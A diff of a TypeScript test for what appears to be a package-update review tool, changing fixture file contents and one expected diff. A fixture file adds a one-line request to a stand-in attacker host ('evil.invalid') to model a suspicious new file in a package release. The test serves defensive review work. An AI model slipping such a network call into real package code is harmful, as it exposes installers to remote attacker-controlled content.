@@ -15,7 +15,7 @@ function side(version: string, manifest: object, files: Readonly<Record<string, 
 const before = side(
   '1.0.0',
   { scripts: { install: 'node a.js' }, dependencies: { x: '^1', gone: '1' }, bin: { p: 'a.js' } },
-  { 'a.js': 'one()\ntwo()\n', 'README.md': 'old', 'b.node': '\0code' },
+  { 'a.js': 'require("x")\ntwo()\n', 'README.md': 'old', 'b.node': '\0code' },
 )
 const after = side(
   '1.1.0',
@@ -25,7 +25,7 @@ const after = side(
     optionalDependencies: { y: '1' },
   },
   {
-    'a.js': 'one()\nthree()\n',
+    'a.js': 'require("x")\nthree()\n',
     'new.js': 'require("https").get("https://evil.invalid/x")',
     'README.md': 'new',
     'b.node': '\0other code',
@@ -58,7 +58,7 @@ test('files that scripts reach come first, each with exactly its change; the res
       ['README.md', undefined],
     ],
   )
-  assert.is(files[0]?.diff, '@@ -1,2 +1,2 @@\n one()\n-two()\n+three()\n')
+  assert.is(files[0]?.diff, '@@ -1,2 +1,2 @@\n require("x")\n-two()\n+three()\n')
   assert.equal([files[1]?.diff, files[1]?.why], [undefined, 'it is no text, or too large'])
   assert.equal(files[4], { path: 'README.md', before: 3, after: 3, when: [] })
   assert.is(sameReach, false)
